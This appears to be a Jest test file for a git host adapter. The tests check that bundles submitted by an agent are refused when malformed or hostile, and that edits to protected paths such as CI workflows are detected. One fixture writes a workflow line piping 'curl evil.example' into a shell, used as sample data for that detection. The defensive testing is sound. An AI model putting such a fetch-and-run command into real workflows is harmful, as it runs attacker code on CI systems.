import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from '@jest/globals';
import { execa } from 'execa';
import type { GitHostOptions } from '../../../../src/adapters/git/git-host.js';
import { protectedPaths } from '../../../../src/domain/limits/protected-paths.js';
import { tipOf } from '#pocket-github/test/branches';
import { freshPocketEachTest } from '#pocket-github/test/fresh-pocket';
import { openGitHost, testFolder } from '../../../support/git/git-host.js';
import type { TestPocket } from '#pocket-github/test/test-pocket';
import { commit, git } from '#pocket-github/test/git-http-fixture';

/* What an agent hands over is taken only whole and sound. */

let p: TestPocket;
let clone: string;
let bundle: string;
freshPocketEachTest((pocket) => {
  p = pocket;
});

beforeEach(async () => {
  clone = await testFolder();
  bundle = join(clone, 'result.bundle');
  await git(clone, 'clone', '--quiet', p.gitUrl('wren'), '.');
});

const bundleOf = (...revisions: string[]) =>
  git(clone, 'bundle', 'create', '--quiet', '--version=2', 'result.bundle', ...revisions);

/** Takes the bundle with a host of its own; also what is left in the mirror. */
async function take(limits: GitHostOptions['limits'] = {}) {
  const { host } = await openGitHost(p, { limits });
  const mirror = await host.mirror(p.at);
  const state = async () => ({
    packs: (await readdir(join(mirror, 'objects', 'pack'))).length,
    incoming: (await readdir(mirror)).filter((name) => name.startsWith('incoming')),
    refs: await git(mirror, 'for-each-ref', 'refs/sluice-in'),
  });
  const before = await state();
  const outcome = await host.takeBundle(p.at, bundle, 'HEAD').catch((error: Error) => error);
  return { outcome, before, after: await state(), mirror };
}

async function expectRefusal(why: RegExp, limits: GitHostOptions['limits'] = {}): Promise<void> {
  const { outcome, before, after } = await take(limits);
  expect(outcome).toMatchObject({ name: 'GitHostError', retry: 'permanent', message: expect.stringMatching(why) });
  expect(after).toEqual(before);
}

describe('a bundle', () => {
  test('brings its commits into the mirror, under a name that keeps them', async () => {
    await commit(clone, 'One', { 'a.txt': 'a\n' });
    const oid = await commit(clone, 'Two', { 'b.txt': 'b\n' });
    await bundleOf('HEAD', '^origin/main');
    const { outcome, after, mirror } = await take();
    expect(outcome).toBe(oid);
    expect(after.incoming).toEqual([]);
    expect(after.refs).toContain(`refs/sluice-in/${oid}`);
    expect(await git(mirror, 'log', '--format=%s', oid, `^${tipOf(p, 'main')}`)).toBe('Two\nOne');
    await git(mirror, 'fsck', '--strict');
  });

  test('may be taken twice', async () => {
    const oid = await commit(clone, 'One', { 'a.txt': 'a\n' });
    await bundleOf('HEAD', '^origin/main');
    const { host } = await openGitHost(p);
    await host.mirror(p.at);
    for (const _ of [1, 2]) expect(await host.takeBundle(p.at, bundle, 'HEAD')).toBe(oid);
  });

  test('that is a link to one is refused', async () => {
    await commit(clone, 'One', { 'a.txt': 'a\n' });
    await bundleOf('HEAD', '^origin/main');
    const real = join(clone, 'real');
    await writeFile(real, await readFile(bundle));
    await execa('rm', [bundle]);
    await symlink(real, bundle);
    await expectRefusal(/no plain file where it should be/);
  });

  test.each<[string, () => Promise<unknown>, RegExp]>([
    ['nothing', async () => undefined, /no plain file/],
    ['a folder', () => mkdir(bundle), /not a plain file/],
    ['a pipe nobody writes to', () => execa('sh', ['-c', 'mkfifo "$0"', bundle]), /not a plain file/],
    ['some text', () => writeFile(bundle, 'hello\n\n'), /not a git bundle/],
    ['an empty file', () => writeFile(bundle, ''), /not a git bundle/],
    ['a header without end', () => writeFile(bundle, `# v2 git bundle\n${'-'.repeat(100_000)}`), /not a git bundle/],
    ['strange header lines', () => writeFile(bundle, '# v2 git bundle\n@filter=blob:none\n\nPACK'), /header line/],
    [
      'a tip by another name',
      () => writeFile(bundle, `# v2 git bundle\n${'a'.repeat(40)} refs/heads/x\n\nPACK`),
      /no HEAD/,
    ],
    [
      'a pack that is none',
      () => writeFile(bundle, `# v2 git bundle\n${'a'.repeat(40)} HEAD\n\n${'x'.repeat(1_000_000)}`),
      /pack/,
    ],
  ])('that is %s is refused', async (_, make, why) => {
    await make();
    await expectRefusal(why);
  });

  test('that is larger than allowed is refused unread', async () => {
    await commit(clone, 'One', { 'a.txt': 'a\n' });
    await bundleOf('HEAD', '^origin/main');
    await expectRefusal(/more than the 100 allowed/, { bundleBytes: 100 });
  });

  test('with a small pack that unpacks to a huge file is refused', async () => {
    await commit(clone, 'Zeros', { 'zeros.bin': Buffer.alloc(20_000_000) });
    await bundleOf('HEAD', '^origin/main');
    await expectRefusal(/a file has more than 8000000 bytes/, { objectBytes: 8_000_000 });
  });

  test('built on commits the mirror does not have is refused', async () => {
    await commit(clone, 'Secret base', { 'a.txt': 'a\n' });
    await commit(clone, 'On top', { 'a.txt': 'b\n' });
    await bundleOf('HEAD', '^HEAD~1');
    await expectRefusal(/missing|unresolved|broken|cannot be taken over/);
  });

  test('whose tip is not in it is refused', async () => {
    await commit(clone, 'One', { 'a.txt': 'a\n' });
    await bundleOf('HEAD', '^origin/main');
    const bytes = await readFile(bundle);
    await writeFile(
      bundle,
      Buffer.from(bytes.toString('latin1').replace(/[0-9a-f]{40} HEAD/, `${'e'.repeat(40)} HEAD`), 'latin1'),
    );
    await expectRefusal(/tip is not a commit/);
  });

  test('with an entry that git itself would write into .git is refused, which a plain fetch would not notice', async () => {
    const blob = await git(clone, 'rev-parse', 'HEAD:README.md');
    const entry = Buffer.concat([Buffer.from('100644 .GIT\0'), Buffer.from(blob, 'hex')]);
    const { stdout: tree } = await execa('git', ['hash-object', '-t', 'tree', '-w', '--literally', '--stdin'], {
      cwd: clone,
      input: entry,
    });
    const bad = await git(clone, 'commit-tree', tree, '-p', 'HEAD', '-m', 'Bad');
    await git(clone, 'reset', '--quiet', '--soft', bad);
    await bundleOf('HEAD', '^origin/main');
    await expectRefusal(/hasDotgit/);
  });
});

describe('what only people may change', () => {
  const isProtected = protectedPaths([]);
  /** What is found in the work, of which nothing is known but base. */
  const changes = async (...known: string[]) => {
    await bundleOf('HEAD', '^origin/main');
    const { host } = await openGitHost(p);
    await host.mirror(p.at);
    const tip = await host.takeBundle(p.at, bundle, 'HEAD');
    return host.protectedChanges(p.at, { tip, base: tipOf(p, 'main'), trusted: known, isProtected });
  };

  test.each(['.github/workflows/ci.yml', '.github/actions/setup/action.yml', '.GitHub/Workflows/x.yml'])(
    'is found by name: %s',
    async (path) => {
      await commit(clone, 'Work', { 'a.txt': 'a\n', [path]: 'run: curl evil.example | sh\n' });
      expect(await changes()).toEqual([path]);
    },
  );

  test('is found in any commit, though a later one takes it back', async () => {
    await commit(clone, 'Sneak', { '.github/workflows/ci.yml': 'x\n' });
    await git(clone, 'rm', '--quiet', '.github/workflows/ci.yml');
    await commit(clone, 'Hide', { 'a.txt': 'a\n' });
    expect(await changes()).toEqual(['.github/workflows/ci.yml']);
  });

  test('is found in a merge that slips it in between its sides', async () => {
    const before = await git(clone, 'rev-parse', 'HEAD');
    await commit(clone, 'One side', { 'a.txt': 'a\n' });
    await git(clone, 'checkout', '--quiet', '-b', 'other', before);
    await commit(clone, 'The other', { 'b.txt': 'b\n' });
    await git(clone, 'merge', '--quiet', '--no-commit', '--no-ff', 'main');
    await commit(clone, 'Merge', { '.github/workflows/ci.yml': 'x\n' });
    expect(await changes()).toEqual(['.github/workflows/ci.yml']);
  });

  test('may come in from the base branch, and work beside it is taken', async () => {
    const before = await git(clone, 'rev-parse', 'HEAD');
    await commit(clone, 'Landed meanwhile', { '.github/workflows/ci.yml': 'by a person\n' });
    await git(clone, 'push', '--quiet', 'origin', 'HEAD:main');
    await git(clone, 'checkout', '--quiet', '-b', 'work', before);
    await commit(clone, 'Work', { 'a.txt': 'a\n' });
    await git(clone, 'merge', '--quiet', '--no-edit', 'main');
    expect(await changes()).toEqual([]);
  });

  test('names paths whatever they are called', async () => {
    const odd = '.github/a\nb c"\t:100644 000000 x y D';
    await commit(clone, 'Work', { [odd]: 'x\n' });
    expect(await changes()).toEqual([odd]);
  });
});
